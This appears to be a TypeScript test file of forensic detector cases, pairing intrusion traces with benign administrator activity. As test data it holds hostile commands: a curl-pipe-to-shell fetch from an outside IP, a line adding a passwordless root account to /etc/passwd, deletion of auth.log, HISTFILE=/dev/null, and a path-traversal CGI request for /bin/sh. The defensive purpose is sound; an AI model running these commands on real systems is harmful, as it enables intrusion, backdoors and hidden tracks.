import { type DetectorCase, diskOf, ILS_HEAD, memoryOf, NOW } from './made-evidence';

const at = (second: number) => `2026-05-28T20:26:${second}+00:00`;
const shell = (typed: readonly (readonly [string, string])[], env: Readonly<Record<string, string>> = {}) => ({
  pid: 3000,
  ppid: 700,
  comm: 'bash',
  args: '-bash',
  exe: '/usr/bin/bash',
  typed,
  env,
});

/** Detectors that judge what was typed, deleted and hidden. */
export const TRACE_CASES: readonly DetectorCase[] = [
  {
    detector: 'typed-commands',
    finds: {
      what: 'commands of several parts of a break-in in one shell',
      files: memoryOf([
        shell([
          [at(41), 'curl http://198.51.100.7/a | sh'],
          [at(42), 'echo "x::0:0::/:/bin/sh" >> /etc/passwd'],
        ]),
      ]),
      says: /Typed in bash \(pid 3000\): fetches a program and runs it/,
    },
    leaves: {
      what: 'an administrator at work',
      files: memoryOf([
        shell([
          [at(41), 'dd if=/dev/zero of=/swapfile bs=1M count=2048'],
          [at(42), 'tar czf - /etc | ssh backup@10.0.0.3 "cat > etc.tgz"'],
          [at(43), 'truncate -s 0 /var/log/app.log'],
          [at(44), 'touch -d yesterday /tmp/marker'],
        ]),
      ]),
    },
  },
  {
    detector: 'deleted-while-open',
    finds: {
      what: 'a program that runs and has no name any more',
      files: {
        ...diskOf(
          { path: '/usr/sbin/sshd', inode: 1700, mode: 'r/rrwxr-xr-x' },
          { path: '/usr/sbin/crond', inode: 1710, mode: 'r/rrwxr-xr-x' },
        ),
        ...memoryOf([{ pid: 3000, ppid: 1, comm: 'm', args: 'm', exe: '/tmp/m', inode: 939 }]),
        'disk/ils-e-orphans.txt': `${ILS_HEAD}939|a|0|0|${NOW}|${NOW}|${NOW}|${NOW}|755|0|700000\n`,
      },
      says: /Inode 939 \(\/tmp\/m\) was deleted while open by m \(pid 3000\): 700000 bytes/,
    },
    leaves: {
      what: 'an inode that was reserved and never written, and a temporary file of a server',
      files: {
        ...diskOf(),
        'disk/ils-e-orphans.txt': `${ILS_HEAD}70|a|0|0|0|0|0|0|0|0|0\n71|a|27|27|${NOW}|${NOW}|${NOW}|${NOW}|600|0|4096\n`,
      },
    },
  },
  {
    detector: 'deleted-file',
    finds: {
      what: 'a log removed by hand',
      files: memoryOf([shell([[at(41), 'rm -f /var/log/auth.log']])]),
      says: /\/var\/log\/auth\.log was removed at 2026-05-28T20:26:41Z by a typed command/,
    },
    leaves: {
      what: 'a build folder that an administrator cleared',
      files: memoryOf([shell([[at(41), 'rm -rf /tmp/build']])]),
    },
  },
  {
    detector: 'log-tampering',
    finds: {
      what: 'a log emptied when the machine was broken into',
      files: diskOf({ path: '/var/log/auth.log', changed: NOW + 20, size: 0, uid: 104 }),
      says: /\/var\/log\/auth\.log was emptied/,
    },
    leaves: {
      what: 'a log that was rotated in those minutes',
      files: diskOf(
        { path: '/var/log/auth.log', born: NOW + 20, size: 0, inode: 60 },
        { path: '/var/log/auth.log.1', changed: NOW + 20, inode: 61 },
      ),
    },
  },
  {
    detector: 'history-hidden',
    finds: {
      what: 'a shell told to keep no history',
      files: memoryOf([shell([], { HISTFILE: '/dev/null' })]),
      says: /HISTFILE=\/dev\/null keeps the shell history from being written, in bash \(3000\)/,
    },
    leaves: {
      what: 'a shell with a long history in a place of its own',
      files: memoryOf([shell([], { HISTFILE: '/root/.history/today', HISTSIZE: '100000', HISTCONTROL: 'ignoreboth' })]),
    },
  },
  {
    detector: 'surviving-text',
    finds: {
      what: 'a request of an attack in a log that was recovered whole',
      files: {
        'disk/recovered/inode-42.bin': '198.51.100.7 - - "GET /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1" 200 5\n',
        'disk/recovered/index.tsv': `recovered/inode-42.bin\t42\t60\t${'0'.repeat(64)}\tdeleted-while-open\t-\n`,
      },
      says: /A recovered file holds requests of an attack on the web server/,
    },
    leaves: {
      what: 'ordinary requests in unallocated blocks',
      files: { 'disk/blkls-unalloc.strings.txt': '12:10.0.0.4 - - "GET /index.html HTTP/1.1" 200 612\n' },
    },
  },
];
